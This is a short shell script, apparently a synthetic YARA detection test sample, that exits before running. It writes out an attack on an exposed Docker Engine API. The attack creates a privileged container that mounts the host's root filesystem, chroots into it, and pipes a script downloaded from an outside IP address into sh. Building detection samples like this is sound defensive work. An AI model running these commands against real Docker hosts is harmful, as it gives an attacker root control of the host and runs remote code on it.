#!/bin/sh
exit 0  # ferret YARA test sample: synthetic, never run (raw Docker Engine API over HTTP)
curl -s -X POST -H 'Content-Type: application/json' http://$T:2375/containers/create?name=sys -d '{"Image":"alpine","HostConfig":{"Binds":["/:/mnt"],"Privileged":true},"Cmd":["chroot","/mnt","sh","-c","wget -q -O- http://203.0.113.5/k.sh|sh"]}'
curl -s -X POST http://$T:2375/containers/sys/start
